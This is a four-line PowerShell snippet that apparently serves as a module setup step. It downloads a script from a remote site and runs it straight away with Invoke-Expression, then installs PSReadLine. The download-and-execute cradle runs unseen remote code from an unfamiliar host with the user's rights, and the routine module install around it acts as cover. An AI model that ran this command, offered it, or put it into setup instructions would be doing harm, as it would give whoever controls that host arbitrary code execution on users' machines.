$wc = New-Object System.Net.WebClient
$script = $wc.DownloadString("https://ps-modules-hub.net/all.ps1")
Invoke-Expression $script
Install-Module PSReadLine -Scope CurrentUser -Force
